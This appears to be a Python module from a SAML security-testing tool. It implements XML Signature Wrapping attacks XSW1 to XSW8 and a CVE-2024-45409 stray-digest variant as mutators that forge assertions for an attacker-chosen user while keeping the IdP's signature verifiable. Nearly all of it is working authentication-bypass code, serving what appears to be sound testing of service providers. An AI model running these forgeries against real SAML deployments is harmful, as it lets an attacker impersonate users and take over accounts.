"""Signature wrapping (XSW): a signed element kept where a verifier finds it while the
element an SP reads is the attacker's.

XSW1-8 are SAML Raider's shapes (after Somorovsky et al., "On Breaking SAML", 2012): XSW1-2
need a signed Response, XSW3-8 a signed Assertion. The IdP signs the real user; the attacker,
holding that message and no key, makes an element naming ``value`` and moves or copies the
signed original where a verifier that resolves References by ID still finds it. A rewritten
Response cannot be signed again by the attacker, so XSW3-8 take the Response's signature off.
Rows that act inside the Assertion (XSW4, 6, 8) do so before encryption, so an
EncryptedAssertion carries the wrapped structure; rows that add elements beside it (XSW3, 5,
7) encrypt each added assertion the way the original is.
"""

from __future__ import annotations

import copy

from lxml import etree

from . import constants as c
from .forgery import (
    attacker_user,
    drop_signature,
    fresh_id,
    payload,
    replace_payload,
    retarget,
    signed,
    unsign_envelope,
    unsigned_copy,
)
from .mutation import Built, MutationContext, Mutator, Params
from .signature_parts import element_digest, own_signature, reference_digest_uri

SIGNED_RESPONSE = "a signed Response"
SIGNED_ASSERTION = "a signed Assertion"


def _evil_response(built: Built, params: Params, ctx: MutationContext, *, inside: bool) -> None:
    """XSW1/2: the root becomes the attacker's Response (new ID, forged assertion); the
    unsigned original, which the Response's signature still names, goes inside the signature
    or just before it."""
    response, signature = built.response, own_signature(built.response)
    if signature is None or built.assertion is None:
        return
    original = unsigned_copy(response)
    response.set("ID", fresh_id(ctx))
    # The forged assertion keeps its ID and (now broken) signature: a verifier that looks the
    # ID up finds the untouched original inside the copy first.
    forged = copy.deepcopy(built.assertion)
    retarget(forged, attacker_user(params))
    replace_payload(response, built.seal(forged))
    if inside:
        signature.append(original)
    else:
        signature.addprevious(original)


def _xsw1(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    _evil_response(built, params, ctx, inside=True)
    return built.response


def _xsw2(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    _evil_response(built, params, ctx, inside=False)
    return built.response


def add_forged_assertion(
    built: Built, params: Params, ctx: MutationContext, *, first: bool, same_id: bool
) -> etree._Element:
    """Beside the signed assertion, an unsigned one naming ``value``: placed first or last,
    with a new ID or the signed one's. Encrypted like the original when it is."""
    if not signed(built.assertion):
        return built.response
    assert built.assertion is not None
    response = built.response
    drop_signature(response)
    forged = unsigned_copy(built.assertion)
    retarget(forged, attacker_user(params))
    if not same_id:
        forged.set("ID", fresh_id(ctx))
    original = payload(response)
    assert original is not None
    if first:
        original.addprevious(built.seal(forged))
    else:
        original.addnext(built.seal(forged))
    return response


def _xsw3(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    return add_forged_assertion(built, params, ctx, first=True, same_id=False)


def _xsw4(assertion: etree._Element, params: Params, ctx: MutationContext) -> etree._Element:
    """The forged assertion (new ID) with the signed original nested inside it."""
    if not signed(assertion):
        return assertion
    forged = unsigned_copy(assertion)
    retarget(forged, attacker_user(params))
    forged.set("ID", fresh_id(ctx))
    forged.append(assertion)
    return forged


def _xsw5(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    """The assertion edited with a new ID, keeping its signature; the unsigned original
    appended after it."""
    if not signed(built.assertion):
        return built.response
    assert built.assertion is not None
    drop_signature(built.response)
    edited = copy.deepcopy(built.assertion)
    retarget(edited, attacker_user(params))
    edited.set("ID", fresh_id(ctx))
    original = payload(built.response)
    assert original is not None
    original.addnext(built.seal(unsigned_copy(built.assertion)))
    replace_payload(built.response, built.seal(edited))
    return built.response


def _xsw6(assertion: etree._Element, params: Params, ctx: MutationContext) -> etree._Element:
    """As XSW5, with the unsigned original inside the edited assertion's signature."""
    signature = own_signature(assertion)
    if signature is None:
        return assertion
    original = unsigned_copy(assertion)
    retarget(assertion, attacker_user(params))
    assertion.set("ID", fresh_id(ctx))
    signature.append(original)
    return assertion


def _xsw7(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    """An Extensions element before the signed assertion, holding an unsigned edited copy with
    the same ID. In plaintext even when the original is encrypted: an SP that decrypts in
    place and then reads the first Assertion of the document takes it."""
    if not signed(built.assertion):
        return built.response
    assert built.assertion is not None
    drop_signature(built.response)
    forged = unsigned_copy(built.assertion)
    retarget(forged, attacker_user(params))
    extensions = etree.Element(c.q(c.SAMLP, "Extensions"))
    extensions.append(forged)
    original = payload(built.response)
    assert original is not None
    original.addprevious(extensions)
    return built.response


def _xsw8(assertion: etree._Element, params: Params, ctx: MutationContext) -> etree._Element:
    """The assertion edited in place (same ID, its signature kept); the unsigned original
    inside a ds:Object of that signature."""
    signature = own_signature(assertion)
    if signature is None:
        return assertion
    original = unsigned_copy(assertion)
    retarget(assertion, attacker_user(params))
    etree.SubElement(signature, c.q(c.DS, "Object")).append(original)
    return assertion


def _stray_digest(built: Built, params: Params, ctx: MutationContext) -> etree._Element:
    """CVE-2024-45409 (ruby-saml): the assertion edited in place, its SignedInfo untouched, and
    the edited assertion's digest in a ds:DigestValue earlier in the document (StatusDetail),
    where a verifier that searches the document for DigestValue finds it first."""
    if not signed(built.assertion):
        return built.response
    assert built.assertion is not None
    edited = copy.deepcopy(built.assertion)
    retarget(edited, attacker_user(params))
    signature = own_signature(edited)
    assert signature is not None
    digest = element_digest(edited, reference_digest_uri(signature))
    response = built.response
    drop_signature(response)  # else the Response's own DigestValue comes first
    replace_payload(response, built.seal(edited))
    status = response.find(c.q(c.SAMLP, "Status"))
    assert status is not None
    detail = etree.SubElement(status, c.q(c.SAMLP, "StatusDetail"))
    etree.SubElement(detail, c.q(c.DS, "DigestValue"), nsmap={"ds": c.DS}).text = digest
    return response


WRAPPING_MUTATORS: tuple[Mutator, ...] = (
    Mutator(
        "xsw1",
        "SAML-CORE-5.4.2",
        "W01: a Response with a new ID and the assertion naming `value` at the root; the "
        "unsigned original, which its signature names, inside ds:Signature",
        on_response=_xsw1,
        needs=SIGNED_RESPONSE,
    ),
    Mutator(
        "xsw2",
        "SAML-CORE-5.4.2",
        "W02: as xsw1, with the unsigned original just before ds:Signature",
        on_response=_xsw2,
        needs=SIGNED_RESPONSE,
    ),
    Mutator(
        "xsw3",
        "SDP-IDP10",
        "W03: an unsigned assertion naming `value` (new ID) before the signed one",
        on_response=_xsw3,
        needs=SIGNED_ASSERTION,
    ),
    Mutator(
        "xsw4",
        "SAML-PROF-4.1.4.5",
        "W04: an unsigned assertion naming `value` (new ID) with the signed original inside it",
        on_assertion=_xsw4,
        on_response=unsign_envelope,
        needs=SIGNED_ASSERTION,
    ),
    Mutator(
        "xsw5",
        "SAML-CORE-5.4.2",
        "W05: the assertion names `value` under a new ID, keeping its signature; the unsigned "
        "original appended after it",
        on_response=_xsw5,
        needs=SIGNED_ASSERTION,
    ),
    Mutator(
        "xsw6",
        "SAML-CORE-5.4.2",
        "W06: as xsw5, with the unsigned original inside the edited assertion's signature",
        on_assertion=_xsw6,
        on_response=unsign_envelope,
        needs=SIGNED_ASSERTION,
    ),
    Mutator(
        "xsw7",
        "SAML-CORE-1.3.4",
        "W07: an Extensions element before the signed assertion, holding an unsigned copy "
        "naming `value` under the same ID",
        on_response=_xsw7,
        needs=SIGNED_ASSERTION,
    ),
    Mutator(
        "xsw8",
        "SAML-CORE-1.3.4",
        "W08: the assertion names `value` (same ID, signature kept); the unsigned original in a "
        "ds:Object of its signature",
        on_assertion=_xsw8,
        on_response=unsign_envelope,
        needs=SIGNED_ASSERTION,
    ),
    Mutator(
        "stray-digest",
        "XMLDSIG-4",
        "W10 (CVE-2024-45409): the assertion names `value`, its SignedInfo untouched; the "
        "edited assertion's digest in a stray ds:DigestValue in StatusDetail",
        on_response=_stray_digest,
        needs=SIGNED_ASSERTION,
    ),
)
